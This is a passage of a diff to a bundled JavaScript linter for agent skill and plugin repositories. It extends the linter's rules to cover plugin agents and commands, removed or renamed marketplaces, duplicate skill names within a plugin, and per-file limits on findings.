+	if (folders.isElsewhere(target)) return null;
+	return {
+		subject: msg`${words(kind === "agents" ? "Agent" : "Command")} ${pathPart(value)} of plugin ${namePart(name)}`,
+		written: value,
+		at,
+		fault: doesNotExist,
+		isMild: false,
+		suggestion: null
+	};
+}
 const isAbsolutePath = msg`is absolute, not relative`;
 const doesNotExist = msg`does not exist`;
 function sourceOf$1(plugin, written) {
@@ -35192,7 +38193,7 @@ function onlyPathIn(root, paths) {
 }
 function similarSibling({ workspace, budget }, target) {
 	const parent = folderOf(target);
-	const names = foldersOf(workspace).within(parent);
+	const names = foldersOf$1(workspace).within(parent);
 	if (budget.count === 0 || names.length > maxFolders) return void 0;
 	budget.count -= 1;
 	const name = nameOf$3(target);
@@ -35261,19 +38262,36 @@ function* pathLists(workspace) {
 			bad
 		};
 		for (const { entry, root } of local) {
-			if (root === void 0 || !foldersOf(workspace).has(root)) continue;
-			yield skillList(search, {
+			if (root === void 0 || !foldersOf$1(workspace).has(root)) continue;
+			const folder = {
 				root,
 				marketplaceRoot: marketplace.root,
 				name: entry.name
-			}, entry.skills, marketplace.path);
+			};
+			yield skillList(search, folder, entry.skills, marketplace.path);
+			yield partList(search, folder, entry.parts, marketplace.path);
 		}
 	}
-	for (const { path, root, name, skills } of plugins) yield skillList(search, {
-		root,
-		marketplaceRoot: "",
-		name
-	}, skills, path);
+	for (const { path, root, name, skills, parts } of [...plugins, ...otherManifests(workspace)]) {
+		const folder = {
+			root,
+			marketplaceRoot: "",
+			name
+		};
+		yield skillList(search, folder, skills, path);
+		yield partList(search, folder, parts, path);
+	}
+}
+function otherManifests({ plugins }) {
+	return plugins.files.flatMap(({ path, root, kind, document }) => {
+		if (!document || kind !== "codex-plugin" && kind !== "cursor-plugin") return [];
+		return [{
+			path,
+			root,
+			name: text$1(get(document, "name")) ?? nameOf$3(root),
+			...listedPathsOf(document)
+		}];
+	});
 }
 function skillList(search, folder, skills, path) {
 	const bad = skills.flatMap((skill) => badSkill(search, folder, skill) ?? []);
@@ -35281,6 +38299,15 @@ function skillList(search, folder, skills, path) {
 		id: `${path}\0${folder.name}`,
 		kind: "skill",
 		count: skills.length,
+		bad
+	};
+}
+function partList(search, folder, parts, path) {
+	const bad = parts.flatMap((part) => badPart(search, folder, part) ?? []);
+	return {
+		id: `${path}\0${folder.name}`,
+		kind: "part",
+		count: parts.length,
 		bad
 	};
 }
@@ -35294,8 +38321,8 @@ const marketplacePathMissing = repositoryRule({
 	id: "marketplace-path-missing",
 	category: "discovery",
 	severityText: "error; warning for a folder without a skill",
-	summary: "Reports paths in a marketplace or a plugin without a plugin or a skill.",
-	why: "Claude Code cannot install a plugin with a missing source, and does not load skills from a missing path. Codex leaves the plugin out. The author gets no notice.",
+	summary: "Reports paths in a marketplace or a plugin without a plugin, a skill, an agent or a command.",
+	why: "Claude Code cannot install a plugin with a missing source, and does not load skills, agents or commands from a missing path. Codex leaves the plugin out. The author gets no notice.",
 	source: "Claude Code documentation, Plugin marketplaces: relative sources count from the root of the marketplace, `skills` from the folder of the plugin. Codex documentation, Build plugins: `source.path` begins with `./`, counts from the root of the marketplace and stays inside.",
 	howToFix: "Correct the path, or remove the entry.",
 	invalid: plugin("pfd") + listedSkill("docx") + listedSkill("pdf"),
@@ -35304,7 +38331,7 @@ const marketplacePathMissing = repositoryRule({
 		for (const list of pathLists(workspace)) {
 			const [first] = list.bad;
 			if (first && list.count > 1 && isWhollyMissing(list)) yield summaryDraft(list, first);
-			else for (const bad of list.bad) yield draftOf$2(bad, list);
+			else for (const bad of list.bad) yield draftOf$3(bad, list);
 		}
 	}
 });
@@ -35328,9 +38355,10 @@ const nouns = {
 	root: "folders of plugins",
 	source: "sources of plugins",
 	"codex-source": "sources of plugins",
-	skill: "paths of skills"
+	skill: "paths of skills",
+	part: "paths of agents and commands"
 };
-function draftOf$2(bad, { id, kind }) {
+function draftOf$3(bad, { id, kind }) {
 	const { subject, written, at, fault, isMild, suggestion } = bad;
 	return {
 		message: msg`${subject} ${fault}.${isMild ? nothing$2 : words(consequences$1[kind])}`,
@@ -35345,45 +38373,9 @@ const consequences$1 = {
 	root: " Nobody can install its plugins.",
 	source: " Nobody can install the plugin.",
 	"codex-source": " Codex leaves the plugin out.",
-	skill: ""
+	skill: "",
+	part: ""
 };
-// src/rules/places/skill-places.ts
-const skillPlacesOf = perWorkspace(({ skills }) => {
-	const byRoot = new Map(skills.map((skill) => [skill.root, skill]));
-	const counts = new Map();
-	for (const { root } of skills) for (const folder of selfAndAncestors(root)) counts.set(folder, (counts.get(folder) ?? 0) + 1);
-	const parents = new Set(skills.flatMap(({ root }) => folderOf(root) === "" ? [] : [folderOf(root)]));
-	return {
-		around: (path) => {
-			for (const folder of selfAndAncestors(folderOf(path))) {
-				const skill = byRoot.get(folder);
-				if (skill) return skill;
-			}
-		},
-		at: (path) => byRoot.get(path),
-		countIn: (path) => counts.get(path) ?? 0,
-		isLikely: (path) => {
-			const folder = folderOf(path);
-			const name = nameOf$3(path);
-			if (isForSkills(name) || isForSkills(nameOf$3(folder)) || parents.has(folder)) return true;
-			return agentFolders.has(name);
-		}
-	};
-});
-const agentFolders = new Set([
-	"agent",
-	"agents",
-	"claude",
-	"codex",
-	"copilot",
-	"cursor",
-	"gemini",
-	"github",
-	"opencode"
-].map((name) => `.${name}`));
-function isForSkills(name) {
-	return /^(?:.*[-_.])?skills$/i.test(name);
-}
 // src/rules/repository/no-skills-found.ts
 const noSkillsFound = repositoryRule({
 	id: "no-skills-found",
@@ -35579,6 +38571,39 @@ function* pathsOut(plugin, workspace) {
 		};
 	}
 }
+// src/units/marketplace-entries.ts
+function localEntries(marketplace) {
+	const { document } = marketplace;
+	const pluginRoot = text$1(get(get(document ?? void 0, "metadata"), "pluginRoot"));
+	return items(get(document ?? void 0, "plugins")).flatMap((table) => {
+		const nameValue = get(table, "name");
+		const [name, source] = [text$1(nameValue)?.trim(), text$1(get(table, "source"))];
+		if (table.kind !== "table" || !name || !source || !nameValue) return [];
+		const root = folderOfSource(source, marketplace.root, pluginRoot);
+		return root === void 0 ? [] : {
+			name,
+			at: nameValue.at,
+			marketplace,
+			table,
+			root
+		};
+	});
+}
+function entryNamed(document, name) {
+	return document ? entriesByName(document).get(name) : void 0;
+}
+const entriesByName = memoize((document) => {
+	const entries = new Map();
+	for (const entry of items(get(document, "plugins"))) {
+		const name = text$1(get(entry, "name"))?.trim();
+		if (entry.kind === "table" && name && !entries.has(name)) entries.set(name, entry);
+	}
+	return entries;
+});
+function folderOfSource(source, root, pluginRoot) {
+	if (/^(?:[\\/~]|[a-z][a-z\d+.-]*:|[\w.-]+@[\w.-]+:)/i.test(source)) return void 0;
+	return resolve$1(root, !/^\.{1,2}(?:\/|$)/.test(source) ? join$2(pluginRoot ?? "", source) : source);
+}
 // src/model/unit/plugin.ts
 const noPlugins = {
 	all: [],
@@ -35592,11 +38617,13 @@ function pluginKey({ root, name }) {
 function pairPlugins(before, after) {
 	const pairs = [];
 	const [left, right] = [new Set(before), new Set(after)];
-	for (const key of [
+	const keys = [
 		pluginKey,
 		({ name }) => name,
-		({ root }) => root
-	]) {
+		({ root }) => root,
+		partNames
+	];
+	for (const key of keys) {
 		const candidates = uniqueBy(right, key);
 		for (const [id, plugin] of uniqueBy(left, key)) {
 			const other = candidates.get(id);
@@ -35620,6 +38647,10 @@ function pairPlugins(before, after) {
 			after: plugin
 		}))
 	];
+}
+function partNames(plugin) {
+	const names = plugin.parts.map(({ kind, name }) => `${kind}\0${nameOf$3(name)}`);
+	return names.length === 0 ? `none\0${pluginKey(plugin)}` : names.sort().join("\0\0");
 }
 function uniqueBy(plugins, key) {
 	const found = new Map();
@@ -35679,6 +38710,35 @@ function endsOf(renames) {
 		return end;
 	};
 }
+function lostMarketplace(before, after) {
+	const nameOf = ({ document }) => get(document ?? void 0, "name");
+	const [old, now] = [text$1(nameOf(before))?.trim(), after && text$1(nameOf(after))?.trim()];
+	const isUsed = items(get(before.document ?? void 0, "plugins")).length > 0;
+	if (!old || !isUsed || after && (!now || now === old)) return null;
+	const about = `${before.path}\0marketplace\0${old}`;
+	if (!after || !now) return {
+		message: msg`Marketplace ${namePart(old)} was removed. Its users get no more updates.`,
+		help: msg`Restore ${pathPart(before.path)}, or tell its users where the plugins are.`,
+		at: {
+			path: before.path,
+			inBaseOnly: true
+		},
+		about,
+		identity: "gone"
+	};
+	const held = code$1(`plugin@${old}`);
+	const message = msg`Marketplace ${namePart(old)} was renamed to ${namePart(now)}. Users of ${held} lose it.`;
+	const at = nameOf(after)?.at ?? { path: after.path };
+	const was = nameOf(before)?.at;
+	return {
+		message,
+		help: msg`Restore the name.`,
+		at,
+		was,
+		about,
+		identity: `renamed\0${now}`
+	};
+}
 // src/rules/repository/plugin-renamed.ts
 const skills = { log: "Logs the day." };
 const side$1 = (name, renames) => ({
@@ -35693,9 +38753,8 @@ const pluginRenamed = repositoryRule({
 	id: "plugin-renamed",
 	category: "version",
 	severity: "warning",
-	severityText: "warning; note for a removed plugin",
-	summary: "Reports plugins that a marketplace lists under another name, or no longer.",
-	why: "Users enable a plugin by its name. Without an entry in `renames`, the plugin disappears for all of them. Clients follow chains of renames, so earlier ones stay.",
+	summary: "Reports marketplaces and plugins that are gone, or have another name.",
+	why: "Users enable a plugin by its name. Without an entry in `renames`, the plugin disappears for all of them; for the name of a marketplace there is no such entry. Clients follow chains of renames, so earlier ones stay.",
 	source: "Claude Code documentation, Plugin marketplaces: `renames` maps an old name to the new one, or to null for a removed plugin; it is append-only, and a cycle or a missing target is invalid.",
 	howToFix: "Add the old name to `renames` with the new name, or with null if the plugin is gone.",
 	invalid: twoPlugins(side$1("notes"), side$1("daily-notes")),
@@ -35705,15 +38764,25 @@ const pluginRenamed = repositoryRule({
 			yield* renameFaults(marketplace);
 			const previous = base && marketplacesOf(base).find(({ path }) => path === marketplace.path);
 			if (!previous) continue;
-			yield* missingNames(previous, marketplace);
+			if (lostMarketplace(previous, marketplace)) continue;
+			yield* missingNames(previous, marketplace, successors(base, workspace));
 			yield* editedRenames(previous, marketplace);
 		}
-		if (base) yield* renamedManifests(base, workspace);
+		if (!base) return;
+		for (const before of marketplacesOf(base)) {
+			const draft = lostMarketplace(before, workspace.plugins.files.find(samePlace(before)));
+			if (draft) yield draft;
+		}
+		yield* renamedManifests(base, workspace);
 	}
 });
 function marketplacesOf({ plugins }) {
 	return plugins.files.filter(({ kind, document }) => kind === "marketplace" && document !== null);
 }
+function samePlace({ path, kind }) {
+	return (other) => other.path === path && other.kind === kind;
+}
+const successors = (base, head) => new Map(pairPlugins(base.plugins.all, head.plugins.all).flatMap(({ before, after }) => before && after ? [[before.root, after.root]] : []));
 function* renamedManifests(base, head) {
 	for (const { before, after } of pairPlugins(base.plugins.all, head.plugins.all)) {
 		if (!before || !after || before.name === after.name) continue;
@@ -35735,8 +38804,8 @@ function* renamedManifests(base, head) {
 		};
 	}
 }
-function* missingNames(before, after) {
-	const [oldNames, newNames] = [listedIn(before), listedIn(after)];
+function* missingNames(before, after, moved) {
+	const [oldNames, newNames] = [listedIn(before, moved), listedIn(after)];
 	const renames = renamesOf(after);
 	const nameBySource = new Map([...newNames].map(([name, { source }]) => [source, name]));
 	for (const [name, { source }] of oldNames) {
@@ -35746,10 +38815,9 @@ function* missingNames(before, after) {
 		yield {
 			message: successor ? renamedMessage(name, successor) : msg`Plugin ${namePart(name)} is no longer listed. Users who enabled it lose it.`,
 			help: msg`Add ${entryOf(name, successor ?? null)} to ${code$1("renames")} in ${pathPart(after.path)}.`,
-			at: successor && newNames.get(successor)?.at || startOf(at),
+			at: successor && newNames.get(successor)?.at || startOf$1(at),
 			about: `${after.path}\0${name}`,
-			identity: successor ? `renamed\0${successor}` : "gone",
-			severity: successor ? void 0 : "note"
+			identity: successor ? `renamed\0${successor}` : "gone"
 		};
 	}
 }
@@ -35759,7 +38827,7 @@ function renamedMessage(before, after) {
 function entryOf(oldName, newName) {
 	return code$1(`${JSON.stringify(oldName)}: ${JSON.stringify(newName)}`);
 }
-function startOf(at) {
+function startOf$1(at) {
 	return at.range ? {
 		...at,
 		range: {
@@ -35768,16 +38836,29 @@ function startOf(at) {
 		}
 	} : at;
 }
-function listedIn({ document }) {
-	return new Map(items(get(document ?? void 0, "plugins")).flatMap((entry) => {
-		const [nameValue, source] = [get(entry, "name"), get(entry, "source")];
-		const name = text$1(nameValue);
-		if (nameValue === void 0 || name === void 0) return [];
+function listedIn(marketplace, moved = new Map()) {
+	const roots = new Map(localEntries(marketplace).map(({ name, root }) => [name, root]));
+	return new Map(items(get(marketplace.document ?? void 0, "plugins")).flatMap((entry) => {
+		const nameValue = get(entry, "name");
+		const name = text$1(nameValue)?.trim();
+		if (nameValue === void 0 || !name) return [];
+		const root = roots.get(name);
 		return [[name, {
-			source: JSON.stringify(source ? toJson(source) : name),
+			source: (root === void 0 ? remoteSource(get(entry, "source")) : `./${moved.get(root) ?? root}`) ?? name,
 			at: nameValue.at
 		}]];
 	}));
+}
+function remoteSource(source) {
+	if (source?.kind !== "table") return text$1(source);
+	const [repo, url, path] = [
+		"repo",
+		"url",
+		"path"
+	].map((key) => text$1(get(source, key)));
+	const address = (repo ?? url)?.trim().toLowerCase().replace(/^https:\/\/github\.com\//, "");
+	if (!address) return canonical(toJson(source));
+	return canonical([address.replace(/\/*(?:\.git)?\/*$/, ""), path ? resolve$1("", path) ?? path : ""]);
 }
 function* editedRenames(before, after) {
 	const renames = renamesOf(after);
@@ -35800,7 +38881,7 @@ function* editedRenames(before, after) {
 		yield {
 			message,
 			help,
-			at: startOf(at),
+			at: startOf$1(at),
 			about
 		};
 	}
@@ -36526,11 +39607,11 @@ const pluginVersionsDisagree = repositoryRule({
 		for (const plugin of workspace.plugins.all) {
 			const [first, ...others] = plugin.versions;
 			const different = first ? others.filter(({ value }) => value !== first.value) : [];
-			if (first && different.length > 0) yield draftOf$1(plugin, first, different);
+			if (first && different.length > 0) yield draftOf$2(plugin, first, different);
 		}
 	}
 });
-function draftOf$1(plugin, first, different) {
+function draftOf$2(plugin, first, different) {
 	const versions = [...new Set([first, ...different].map(({ value }) => value))];
 	const values = different.map(({ kind, value }) => `${kind} ${value}`);
 	return {
@@ -36654,8 +39735,8 @@ const referenceRemoved = repositoryRule({
 			const { path } = proto;
 			if (!workspace.paths.has(path) || isBroken(protos.get(path), proto)) continue;
 			const removedReferences = proto.references.filter((candidate) => !inherited.has(candidate) && names.has(candidate.id));
-			const remaining = new Set(protos.get(path)?.references.map(keyOf$7));
-			for (const [key, reference] of new Map(removedReferences.map((removed) => [keyOf$7(removed), removed]))) {
+			const remaining = new Set(protos.get(path)?.references.map(keyOf$8));
+			for (const [key, reference] of new Map(removedReferences.map((removed) => [keyOf$8(removed), removed]))) {
 				const pin = pinOf(reference);
 				if (!pin || remaining.has(key)) continue;
 				yield {
@@ -36679,7 +39760,7 @@ function pinOf({ hash, minVersion }) {
 		words: msg`${code$1(minVersion.value)} or later`
 	};
 }
-function keyOf$7({ id, hash, minVersion }) {
+function keyOf$8({ id, hash, minVersion }) {
 	return JSON.stringify([
 		id,
 		hash?.value,
@@ -36877,6 +39958,10 @@ const skillSymlink = repositoryRule({
 	summary: "Reports symbolic links in skills and in place of skills.",
 	why: "No hash covers the target of a link, but Claude Code and Codex follow it. What grants permissions is checked behind links too, other files are not.",
 	source: "Agent Skills client guides: Claude Code and Codex follow links to directories of skills, `gh skill` skips them.",
+	consequenceOf: {
+		rules: ["link-lost"],
+		sharing: "place"
+	},
 	howToFix: "Nothing, if the link is an alias of a skill in this repository. Otherwise replace the link with the files.",
 	invalid: `${pdf$1}-- .claude/skills/pdf (symlink) --\n../../skills/pdf\n`,
 	valid: pdf$1,
@@ -36949,7 +40034,7 @@ function describeAlias(path, to, workspace, places) {
 	if (places.at(to)) return msg`the skill in ${location}`;
 	const skills = places.countIn(to);
 	if (skills > 0) return msg`${location} with ${count(skills, "skill")}`;
-	if (!foldersOf(workspace).isSkill(to)) return null;
+	if (!foldersOf$1(workspace).isSkill(to)) return null;
 	return msg`${location} with an unchecked ${pathPart("SKILL.md")}`;
 }
 function targetClause({ target }, destination) {
@@ -37245,7 +40330,7 @@ function differenceDraft(entry, skill, folder) {
 const help$1 = msg`Run the script that writes the index again.`;
 const maxDifferences = 4;
 function missingSkillDraft(entry, folder, workspace) {
-	const folders = foldersOf(workspace);
+	const folders = foldersOf$1(workspace);
 	const path = join$2(folder, entry.folder);
 	if (folders.isSkill(path) || folders.isElsewhere(path)) return null;
 	return {
@@ -37787,13 +40872,13 @@ const duplicateName = skillRule({
 	id: "duplicate-name",
 	needs: "workspace",
 	severity: "warning",
-	summary: "Reports skills of the same name in the same folder.",
+	summary: "Reports skills of the same name in the same folder, or in the same plugin.",
 	why: "Agents that load both keep only one of them, and differ in which one.",
 	howToFix: "Give one of the skills another name, and its directory the same name. If the two are one skill, remove a copy.",
 	source: "Agent Skills client guide: on name collisions, warn.",
 	*check({ skill, workspace }) {
 		const name = nameKey(skill);
-		const [first] = siblingsByKey(workspace).get(siblingKey(skill)) ?? [];
+		const [first] = siblingsByKey(workspace).get(siblingKey(skill, workspace)) ?? [];
 		if (!first || first.root === skill.root || skill.root === "") return;
 		if (isArchived(skill)) return;
 		yield {
@@ -37806,11 +40891,11 @@ const duplicateName = skillRule({
 	invalid: oneSkill(frontmatter) + oneSkill(frontmatter, "", "skills/pdf-forms/SKILL.md"),
 	valid: oneSkill(frontmatter) + oneSkill(frontmatter, "", "vendor/skills/pdf/SKILL.md")
 });
-const siblingsByKey = perWorkspace(({ skills }) => {
+const siblingsByKey = perWorkspace((workspace) => {
 	const groups = new Map();
-	for (const skill of skills) {
+	for (const skill of workspace.skills) {
 		if (skill.root === "" || skill.isUnread || isArchived(skill)) continue;
-		const key = siblingKey(skill);
+		const key = siblingKey(skill, workspace);
 		const group = groups.get(key);
 		if (!group) groups.set(key, [skill]);
 		else if (nameOf$3(skill.root) === skill.name) group.unshift(skill);
@@ -37818,9 +40903,12 @@ const siblingsByKey = perWorkspace(({ skills }) => {
 	}
 	return groups;
 });
-function siblingKey(skill) {
-	return `${folderOf(skill.root)}\0${nameKey(skill)}`;
+function siblingKey(skill, workspace) {
+	const plugins = pluginsBySkillFolder(workspace);
+	const home = [...selfAndAncestors(skill.root)].find((folder) => plugins.has(folder));
+	return `${home === void 0 ? `in ${folderOf(skill.root)}` : `of ${plugins.get(home)}`}\0${nameKey(skill)}`;
 }
+const pluginsBySkillFolder = perWorkspace(({ plugins }) => new Map(plugins.all.flatMap((plugin) => plugin.installedPaths.flatMap(({ kind, path }) => kind === "skill" ? [[path, pluginKey(plugin)]] : []))));
 function nameKey(skill) {
 	return skill.name.normalize("NFKC");
 }
@@ -37889,8 +40977,8 @@ function typeFault(value, dialect) {
 }
 function formFault(text, strict) {
 	if (largeNumber(text)) return { message: msg`Version ${code$1(text)} has a number that is too large.` };
-	if (text.length > maxLength) {
-		const limit = msg`at most ${maxLength} are allowed`;
+	if (text.length > maxLength$1) {
+		const limit = msg`at most ${maxLength$1} are allowed`;
 		return { message: msg`Version ${code$1(text)} has ${text.length} characters; ${limit}.` };
 	}
 	const kind = strict ? msg`a semantic version` : msg`a number with dots`;
@@ -37903,9 +40991,9 @@ function formFault(text, strict) {
 function largeNumber(text) {
 	return (/^v?(\d+(?:\.\d+){0,3})(?:[-+]|$)/.exec(text)?.[1]?.split(".") ?? []).find((digits) => Number(digits) > Number.MAX_SAFE_INTEGER);
 }
-const maxLength = 256;
+const maxLength$1 = 256;
 function isLoose(text) {
-	return text.length <= maxLength && loosePattern.test(text) && largeNumber(text) === void 0;
+	return text.length <= maxLength$1 && loosePattern.test(text) && largeNumber(text) === void 0;
 }
 function suggestSemantic(text) {
 	const dotted = /^\d{4}(?:-\d{1,2}){1,2}$/.test(text) ? text.replaceAll("-", ".") : text;
@@ -38002,7 +41090,7 @@ function versionDraft({ before, after, required, changes, tag }, said, severity)
 function formatVersion({ version }) {
 	return version ? code$1(version.value) : words("none");
 }
-function uncovered$1(step) {
+function uncovered(step) {
 	return {
 		message: msg`Version ${formatVersion(step.after)} does not cover ${describeChanges(step)}.`,
 		help: setVersion(step),
@@ -38117,7 +41205,7 @@ const versionBumpInsufficient = versionRule({
 		const { declared, required } = step;
 		if (declared !== "patch" && declared !== "minor" && declared !== "major") return;
 		if (covers(declared, required)) return;
-		yield versionDraft(step, uncovered$1(step), shortfallSeverity[required]);
+		yield versionDraft(step, uncovered(step), shortfallSeverity[required]);
 	},
 	invalid: twoManifests("", "inputs: { required: [{ name: tz }, { name: day }] }", ["1.0.0", "1.1.0"]),
 	valid: twoManifests("", "inputs: { optional: [{ name: tz }] }", ["1.0.0", "1.1.0"])
@@ -38166,7 +41254,7 @@ const versionNotBumped = versionRule({
 		yield versionDraft(step, isOptional ? {
 			message,
 			notes: changeNotes(step)
-		} : uncovered$1(step), shortfallSeverity[required]);
+		} : uncovered(step), shortfallSeverity[required]);
 	},
 	invalid: twoManifests("", "inputs: { required: [{ name: tz }, { name: day }] }"),
 	valid: twoManifests("", "inputs: { required: [{ name: tz }] }", ["1.0.0", "2.0.0"])
@@ -38288,6 +41376,7 @@ const versionUncomparable = versionRule({
 const treeRules = Object.values(__exportAll({
 	acceptExpired: () => acceptExpired,
 	acceptUnused: () => acceptUnused,
+	agentSkillLost: () => agentSkillLost,
 	agentToolsWidened: () => agentToolsWidened,
 	allowedToolsShape: () => allowedToolsShape,
 	apiVersionMinor: () => apiVersionMinor,
@@ -38308,8 +41397,10 @@ const treeRules = Object.values(__exportAll({
 	bundledSkillShadowed: () => bundledSkillShadowed,
 	capabilityFormat: () => capabilityFormat,
 	capabilitySyntax: () => capabilitySyntax,
+	clientFieldChanged: () => clientFieldChanged,
 	clientFieldUnknown: () => clientFieldUnknown,
 	clientFileSpelling: () => clientFileSpelling,
+	clientPartUnread: () => clientPartUnread,
 	commandNameFormat: () => commandNameFormat,
 	commandVersionRange: () => commandVersionRange,
 	compatibilityLength: () => compatibilityLength,
@@ -38371,6 +41462,7 @@ const treeRules = Object.values(__exportAll({
 	keyTypo: () => keyTypo,
 	licenseShape: () => licenseShape,
 	licenseSpdx: () => licenseSpdx,
+	linkLost: () => linkLost,
 	linkTarget: () => linkTarget,
 	lockContentChanged: () => lockContentChanged,
 	lockCoversLess: () => lockCoversLess,
@@ -38405,6 +41497,7 @@ const treeRules = Object.values(__exportAll({
 	nameLength: () => nameLength,
 	nameMissing: () => nameMissing,
 	newSkillPermissions: () => newSkillPermissions,
+	newUnitPermissions: () => newUnitPermissions,
 	noSkillsFound: () => noSkillsFound,
 	outputVariableUnknown: () => outputVariableUnknown,
 	paramDefaultType: () => paramDefaultType,
@@ -38473,6 +41566,7 @@ const treeRules = Object.values(__exportAll({
 	tagVersion: () => tagVersion,
 	tomlSyntax: () => tomlSyntax,
 	urlFormat: () => urlFormat,
+	vendoredSkillClaimed: () => vendoredSkillClaimed,
 	vendoredSkillUpdated: () => vendoredSkillUpdated,
 	versionAdded: () => versionAdded,
 	versionBumpInsufficient: () => versionBumpInsufficient,
@@ -38541,11 +41635,20 @@ function summarizeDrafts(overflow) {
 }
 const maxTotal = 1e5;
 function limitFindings(findings) {
+	return limitTotal(limitPerFile(findings));
+}
+function limitPerFile(findings) {
+	if (findings.length <= maxPerFile) return findings;
+	const overflows = [...groupBy(findings.filter(({ about }) => about !== "more"), ({ rule, state, at }) => `${rule} ${state} ${at.path}`).values()].filter(({ length }) => length > maxPerFile).map((all) => all.toSorted((a, b) => sortRank(a) - sortRank(b)).slice(maxPerFile));
+	const omitted = new Set(overflows.flat());
+	return omitted.size === 0 ? findings : [...findings.filter((finding) => !omitted.has(finding)), ...overflows.map((overflow) => summarizeFindings(overflow, words(" in this file")))];
+}
+function limitTotal(findings) {
 	if (findings.length <= maxTotal) return findings;
 	const sorted = [...findings].sort((a, b) => sortRank(a) - sortRank(b));
 	const kept = sorted.slice(0, maxTotal);
 	const overflowByRule = groupBy(sorted.slice(maxTotal), ({ rule, state }) => `${rule} ${state}`);
-	return [...kept, ...Array.from(overflowByRule.values(), summarizeFindings)];
+	return [...kept, ...Array.from(overflowByRule.values(), (all) => summarizeFindings(all))];
 }
 const states = [
 	"new",
@@ -38555,9 +41658,9 @@ const states = [
 function sortRank({ state, severity }) {
 	return states.indexOf(state) * 3 + severityRank[severity];
 }
-function summarizeFindings(overflow) {
+function summarizeFindings(overflow, where = words("")) {
 	const [worst] = overflow;
-	const message = msg`${overflow.length} more findings of this rule are not listed.`;
+	const message = msg`${overflow.length} more findings of this rule${where} are not listed.`;
 	const cleared = {
 		was: null,
 		before: null,
@@ -38623,6 +41726,7 @@ function runRules(rules, subject, source) {
 // src/pipeline/shard/known-skills.ts
 const nothingKnown = {
 	skills: [],
+	hashed: [],
 	powerFiles: [],
 	drafts: new Map(),
 	pathDrafts: {
@@ -38633,6 +41737,7 @@ const nothingKnown = {
 function joinKnown(parts) {
 	return {
 		skills: parts.flatMap(({ skills }) => skills),
+		hashed: parts.flatMap(({ hashed }) => hashed),
 		powerFiles: parts.flatMap(({ powerFiles }) => powerFiles),
 		drafts: new Map(parts.flatMap(({ drafts }) => [...drafts])),
 		pathDrafts: {
@@ -38697,17 +41802,18 @@ const noComparison = {
 	},
 	drafts: [],
 	powers: [],
-	unitPairs: new Map()
+	unitPairs: new Map(),
+	isNewlyOffered: () => false
 };
 // src/pipeline/compare/grown-denials.ts
-function withGrowth(drafts, changes, { programs }) {
+function withGrowth(drafts, changes, { programs }, isNewlyOffered) {
 	const grown = new Map();
 	for (const change of changes) {
 		const { power } = change;
 		if (!isWidening(change) || power.kind === "guard") continue;
 		const { trigger, pin = null } = power;
 		const files = (power.programs ?? []).map((path) => [path, programs.get(path)?.id ?? null]);
-		const key = keyOf$6(power.at.path, deniedPower(power));
+		const key = keyOf$7(power.at.path, deniedPower(power));
 		const facts = JSON.parse(JSON.stringify([
 			trigger,
 			pin,
@@ -38716,11 +41822,11 @@ function withGrowth(drafts, changes, { programs }) {
 		]));
 		grown.set(key, `${grown.get(key) ?? ""}${canonical(facts)}`);
 	}
-	if (grown.size === 0) return drafts;
 	return drafts.map((one) => {
-		const { rule, draft } = one;
+		const { rule, draft, source } = one;
 		if (rule !== policyDenied) return one;
-		const value = grown.get(keyOf$6(draft.at.path, draft.about ?? ""));
+		const isOffered = source.skill !== null && isNewlyOffered(source.skill);
+		const value = grown.get(keyOf$7(draft.at.path, draft.about ?? "")) ?? (isOffered ? "" : void 0);
 		return value === void 0 ? one : {
 			...one,
 			draft: {
@@ -38730,7 +41836,7 @@ function withGrowth(drafts, changes, { programs }) {
 		};
 	});
 }
-function keyOf$6(path, about) {
+function keyOf$7(path, about) {
 	return `${path}\0${about}`;
 }
 // src/pipeline/findings/shared-secrets.ts
@@ -39008,7 +42114,7 @@ function markExisting(findings, baseFindings, trees) {
 	const unmatchedCounts = new Map();
 	for (const finding of baseFindings) {
 		if (finding.rule === noSkillsFound.id) continue;
-		const key = keyOf$5(finding, finding.skill, finding.at.path);
+		const key = keyOf$6(finding, finding.skill, finding.at.path);
 		unmatchedCounts.set(key, (unmatchedCounts.get(key) ?? 0) + 1);
 	}
 	const keyAtBase = createKeyAtBase(trees);
@@ -39031,10 +42137,10 @@ function createKeyAtBase({ head, base, previousByRoot }) {
 	const basePaths = base ? relocatedLocks(head, base) : new Map();
 	return (finding) => {
 		const { skill, at } = finding;
-		return keyOf$5(finding, skill === null ? null : previousByRoot.get(skill)?.root ?? skill, basePaths.get(at.path) ?? at.path);
+		return keyOf$6(finding, skill === null ? null : previousByRoot.get(skill)?.root ?? skill, basePaths.get(at.path) ?? at.path);
 	};
 }
-function keyOf$5({ rule, about, value }, root, path) {
+function keyOf$6({ rule, about, value }, root, path) {
 	return [
 		rule,
 		root ?? path,
@@ -39157,7 +42263,7 @@ function owningPlugins(path, base, head) {
 	});
 }
 function pluginsOf({ marketplaces, plugins }) {
-	const entries = marketplaces.flatMap(entriesOf);
+	const entries = marketplaces.flatMap(entriesOf$1);
 	const withManifest = plugins.map(({ path, root, name, skills, text }) => {
 		const manifestVersion = versionIn$1(get(parseJson(path, withoutBom(text)).root ?? void 0, "version"));
 		const entry = entries.find((plugin) => plugin.root === root && plugin.name === name);
@@ -39172,7 +42278,7 @@ function pluginsOf({ marketplaces, plugins }) {
 	const roots = new Set(plugins.map(({ root }) => root));
 	return [...withManifest, ...entries.filter(({ root }) => !roots.has(root))];
 }
-function entriesOf(marketplace) {
+function entriesOf$1(marketplace) {
 	const root = parseJson(marketplace.path, withoutBom(marketplace.text)).root ?? void 0;
 	const versions = new Map(items(get(root, "plugins")).map((item) => [text$1(get(item, "name")), versionIn$1(get(item, "version"))]));
 	return localPlugins(marketplace).flatMap(({ entry: { name, skills }, root }) => {
@@ -39315,19 +42421,30 @@ function namesRemovedSkill({ pins, deployed = [] }, root) {
 	return [...deployed, ...pins.flatMap(({ file }) => file ?? [])].some((path) => isAtOrInside(path, root));
 }
 // src/pipeline/judge/vendored-pairs.ts
-function vendoredPairs(head, base) {
-	if (!base) return () => null;
+function recordLookup(head, base) {
+	if (!base) return {
+		vendoredPairOf: () => null,
+		claimOf: () => null
+	};
 	let lookups;
-	return ({ before, after }) => {
-		if (!before || before === after) return null;
+	const recordsOf = ({ before, after }) => {
 		lookups ??= [vendoredSkills(base), vendoredSkills(head)];
-		const baseRecord = lookups[0](before);
-		const headRecord = after && lookups[1](after);
-		if (!baseRecord || after && !headRecord) return null;
-		return {
-			before: baseRecord,
-			after: headRecord
-		};
+		return [before && lookups[0](before), after && lookups[1](after)];
+	};
+	return {
+		vendoredPairOf: (pair) => {
